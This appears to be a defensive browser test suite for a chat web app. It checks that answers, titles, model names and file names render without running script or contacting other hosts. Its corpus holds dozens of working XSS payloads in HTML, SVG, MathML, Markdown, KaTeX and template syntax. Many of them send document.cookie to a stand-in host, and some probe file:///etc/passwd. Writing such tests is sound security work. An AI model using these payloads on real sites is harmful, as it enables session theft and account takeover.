/** Whatever a model, a title, a name or a file says: nothing of it runs, and nothing is sent anywhere. */
import assert from "node:assert/strict";
import { lastAnswer, say, visit } from "./browser.ts";
import { ask, onServer } from "./on_server.ts";

const run = "globalThis.pwned=1;fetch('https://thief.example/'+document.cookie)";

/** Tried elsewhere with success: HTML, SVG, MathML, links, formulas, code, entities, tricks with parsers. */
const corpus = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://thief.example/pixel.png">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<link rel=stylesheet href=https://thief.example/a.css><style>@import 'https://thief.example/b.css'</style>`,
  `<meta http-equiv=refresh content="0;url=https://thief.example/">`,
  `<form action=https://thief.example/><input name=x autofocus onfocus="${run}"></form>`,
  `<body onload="${run}"><details open ontoggle="${run}">x</details>`,
  `<a href="javascript:${run}" id=x>click</a><base href=https://thief.example/>`,
  `</script><script>${run}</script><!--`,
  `<template><img src=x onerror=${run}></template><noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `[click](javascript:${run})`,
  `[click](JaVaScRiPt:${run}) [tab](java&#09;script:${run}) [nul](java\u0000script:${run})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:msgbox) [f](file:///etc/passwd)`,
  `![x](javascript:${run}) ![x](https://thief.example/p.png "t") ![x](data:image/svg+xml,<svg onload=${run}>)`,
  `[ref]: javascript:${run}\n\n[ref] and <javascript:${run}> and <https://thief.example/"onmouseover="${run}>`,
  `[a](https://a.example/"onmouseover="${run}) [b](<https://b.example/' autofocus onfocus='${run}>)`,
  `$\\href{javascript:${run}}{x}$ $\\url{javascript:${run}}$ $\\includegraphics{https://thief.example/f.png}$`,
  `$\\htmlData{x=y}{z}$ $\\htmlStyle{background:url(https://thief.example/)}{x}$ $\\htmlId{app}{x}$`,
  `$$\\text{<img src=x onerror=${run}>}$$`,
  `$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$`,
  `\\(\\color{red;background:url(https://thief.example/)}{x}\\)`,
  `\`\`\`html\n<img src=x onerror=${run}><script>${run}</script>\n\`\`\``,
  `\`\`\`js"><img src=x onerror=${run}>\nx\n\`\`\``,
  `\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`constructor\ny\n\`\`\``,
  `| <img src=x onerror=${run}> | [x](javascript:${run}) |\n|---|---|\n| <b onclick=${run}>x</b> | $\\href{javascript:x}{y}$ |`,
  `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
  `- [x] <img src=x onerror=${run}>\n> # <script>${run}</script>`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  `\u202e<img src=x onerror=${run}>\u2066 \ud800 \u0000`,
];

const hostileName = `echo"><img src=x onerror=${run}>`;
const inBrowser = onServer({ models: ["echo", hostileName] });

/** Everything that could do something, and that we never draw. */
const dangerous =
  "script:not([src]):not([type='application/json']), iframe, object, embed, base, style, img, article form, " +
  "#app [onerror], #app [onload], #app [onclick], #app [onfocus], #app [onmouseover], #app [ontoggle], #app [style*=url]";

const pwned = () => Reflect.get(globalThis, "pwned");

inBrowser("no answer and no message runs anything or asks another host", async ({ browser, server }) => {
  await visit(browser, server.url, async ({ page }) => {
    page.on("dialog", () => assert.fail("a dialog was opened"));
    await page.goto("/");
    for (const [index, text] of corpus.entries()) {
      await say(page, text);
      await page.locator("article.answer").nth(index).waitFor();
      await lastAnswer(page);
    }
    assert.equal(await page.locator("article.answer").count(), corpus.length);
    await page.locator("article.answer math").first().waitFor();
    const check = async () => {
      assert.deepEqual(await page.locator(dangerous).evaluateAll((found) => found.map((it) => it.outerHTML)), []);
      assert.equal(await page.evaluate(pwned), undefined);
      const addresses = await page.locator("#app a").evaluateAll((links) => links.map((it) => it.getAttribute("href")));
      for (const href of addresses) assert.match(href ?? "", /^(\/|#|https?:\/\/)/);
    };
    await check();
    // and as the server draws it
    await page.reload();
    await page.locator("article.answer math").first().waitFor();
    await check();
  });
});

inBrowser("no title, model or file can carry anything onto a page", async ({ browser, server }) => {
  const bytes = btoa("hello");
  for (const text of corpus.slice(0, 20)) {
    const title = text.replaceAll("\u0000", "").replaceAll("\n", " ").slice(0, 200);
    const id = await ask(server, "hello", {
      model: `sim/${hostileName}`,
      attachments: [{ name: title.replaceAll(/[/\\]/g, "_").slice(0, 200), media_type: "text/plain", data: bytes }],
    });
    const renamed = await fetch(`${server.url}/api/conversations/${id}`, {
      method: "PATCH",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ title }),
    });
    assert.equal(renamed.status, 200, await renamed.text());
    await visit(browser, server.url, async ({ page }) => {
      page.on("dialog", () => assert.fail("a dialog was opened"));
      await page.goto(`/c/${id}`);
      await page.getByRole("button", { name: /^Model:/ }).click();
      await page.getByRole("option").nth(1).waitFor();
      assert.deepEqual(await page.locator(dangerous).evaluateAll((found) => found.map((it) => it.outerHTML)), []);
      assert.equal(await page.evaluate(pwned), undefined);
      assert.equal(await page.locator(".bar h1").innerText(), title.trim().replaceAll(/\s+/g, " "));
      assert.equal(await page.locator(".files li").count(), 1);
    });
  }
});
